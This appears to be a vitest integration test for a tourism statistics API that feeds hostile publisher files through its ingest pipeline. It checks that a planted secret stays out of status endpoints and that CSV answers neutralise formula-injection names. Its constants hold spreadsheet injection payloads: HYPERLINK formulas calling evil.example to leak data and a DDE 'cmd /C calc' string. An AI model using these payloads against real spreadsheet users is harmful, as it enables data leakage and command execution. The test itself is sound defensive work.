/**
 * Publishers' files are untrusted input, shown to callers. One refresh round against the stand-in
 * publisher (test/helpers/publisher.ts) through the real fetchers, shape checks and ingest, with
 * hostile files served in place of three sources':
 *   - a CSV whose header's first cell carries what an internal service would answer: the round
 *     refuses it, and the reason a free key reads in /v1/status and GraphQL names the file and the
 *     kind of problem without those bytes;
 *   - the country-code file with names that are spreadsheet formulas, and Eurostat's GEO labels with
 *     one for a region: CSV answers neutralise them (a leading single quote), numbers stay numbers.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { DEFAULT_HTTP } from '../../src/ingest/fetch/http';
import { refreshSources, type RefreshSummary } from '../../src/ingest/refresh';
import { startStandInPublisher, type StandInPublisher } from '../helpers/publisher';
import { SOURCES_DIR } from '../helpers/paths';
import { startTestServer, type TestServer } from '../helpers/server';

const SECRET = 'INTERNAL-SECRET-TOKEN=AKIA-0123456789';
const BRENT_MONTHLY = 'https://raw.githubusercontent.com/datasets/oil-prices/main/data/brent-monthly.csv';
const COUNTRY_CODES = 'https://raw.githubusercontent.com/datasets/country-codes/main/data/country-codes.csv';
const GEO = 'https://ec.europa.eu/eurostat/api/dissemination/sdmx/2.1/codelist/ESTAT/GEO?format=TSV&lang=en';
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak","Malta")';
const SUM = "@SUM(1+1)*cmd|' /C calc'!A0";
const REGION = '=HYPERLINK("http://evil.example/?r","Cataluña")';

/** The country-code file with two countries' display names made formulas. */
function hostileCountryCodes(): string {
  const rows: Record<string, string>[] = parse(fs.readFileSync(path.join(SOURCES_DIR, 'country_codes/country-codes.csv')), { columns: true, bom: true });
  const renamed: Record<string, string> = { MT: HYPERLINK, LU: SUM };
  const edited = rows.map((r) => (renamed[r['ISO3166-1-Alpha-2']] ? { ...r, 'CLDR display name': renamed[r['ISO3166-1-Alpha-2']] } : r));
  if (edited.filter((r, i) => r !== rows[i]).length !== 2) throw new Error('Malta and Luxembourg not found in country-codes.csv');
  return stringify(edited, { header: true, columns: Object.keys(rows[0]) });
}

let publisher: StandInPublisher;
let dataDir: string;
let round: RefreshSummary;
let server: TestServer;
const log: string[] = [];

beforeAll(async () => {
  publisher = await startStandInPublisher();
  const brent = publisher.read(BRENT_MONTHLY).toString('utf8');
  publisher.put(BRENT_MONTHLY, brent.replace(/^Date,/, `${SECRET},`));
  publisher.put(COUNTRY_CODES, hostileCountryCodes());
  publisher.put(GEO, publisher.read(GEO).toString('utf8').replace(/^ES51\tCataluña$/m, `ES51\t${REGION}`));
  dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'tourism-hostile-'));
  const http = { ...DEFAULT_HTTP, mirror: publisher.url, timeoutMs: 30_000, idleMs: 5_000, attempts: 2, backoffMs: 50 };
  round = await refreshSources({ dataDir, parseCacheDir: inject('parseCacheDir'), seedDir: SOURCES_DIR, http, now: new Date('2026-04-20T06:00:00Z'), log: (l) => log.push(l) });
  server = await startTestServer({ dataDir });
}, 300_000);
afterAll(async () => {
  await server?.close();
  await publisher?.close();
  if (dataDir) fs.rmSync(dataDir, { recursive: true, force: true });
});

describe("a refusal quoting the fetched file's bytes", () => {
  it('is recorded naming the file and the kind of problem; the bytes go to the log only', () => {
    expect(round.build?.written).toBe(true);
    const failed = Object.fromEntries(round.failed.map((f) => [f.id, f.reason]));
    expect(Object.keys(failed)).toEqual(['eia/brent-monthly']);
    expect(failed['eia/brent-monthly']).toMatch(/^refused: eia_oil\/brent-monthly\.csv cell A1: header cell expected "Date", found other text: /);
    expect(failed['eia/brent-monthly']).not.toContain('INTERNAL');
    expect(log.some((l) => l.includes('eia/brent-monthly') && l.includes(SECRET))).toBe(true);
  });

  it('shows a free key no byte of it in /v1/status nor in GraphQL status.sources', async () => {
    const rest = await server.get('/v1/status', { plan: 'free' });
    expect(rest.status).toBe(200);
    const text = await rest.text();
    expect(text).not.toContain('INTERNAL');
    const row = JSON.parse(text).data.sources.find((s: { id: string }) => s.id === 'eia/brent-monthly');
    expect(row).toMatchObject({ state: 'failed', reason: expect.stringContaining('eia_oil/brent-monthly.csv cell A1: header cell expected "Date"') });
    const gql = await server.graphql('{ status { sources { id state reason } } }', {}, 'free');
    expect(gql.status).toBe(200);
    expect(JSON.stringify(gql.body)).not.toContain('INTERNAL');
    expect(gql.body.data.status.sources.find((s: { id: string }) => s.id === 'eia/brent-monthly').reason).toMatch(/header cell expected "Date", found other text/);
  });
});

/** Every cell of a CSV answer. */
const cellsOf = (csv: string): string[] => (parse(csv) as string[][]).flat();

describe('CSV answers carrying publisher text', () => {
  it('/v1/countries?format=csv neutralises names that begin like a formula', async () => {
    const res = await server.get('/v1/countries?format=csv', { plan: 'free' });
    expect(res.status).toBe(200);
    const csv = await res.text();
    const cells = cellsOf(csv);
    expect(cells).toContain(`'${HYPERLINK}`);
    expect(cells).toContain(`'${SUM}`);
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d/.test(c))).toEqual([]);
    // The JSON answer is the publisher's text as it is: JSON is not opened by spreadsheets.
    const json = await server.json('/v1/countries', 'free');
    expect(json.data.map((c: { name: string }) => c.name)).toContain(HYPERLINK);
  });

  it('/v1/nights/by-region neutralises a region label that begins like a formula; its numbers stay numbers', async () => {
    const res = await server.get('/v1/nights/by-region?iso=ES&format=csv', { plan: 'developer' });
    expect(res.status).toBe(200);
    const csv = await res.text();
    expect(cellsOf(csv)).toContain(`'${REGION} (ES51)`);
    expect(cellsOf(csv).filter((c) => /^[=+@\t\r]/.test(c))).toEqual([]);
    const line = csv.split('\r\n').find((l) => l.includes('(ES51)')) ?? '';
    expect(line).toMatch(/,\d+(\.\d+)?$/);
  });
});
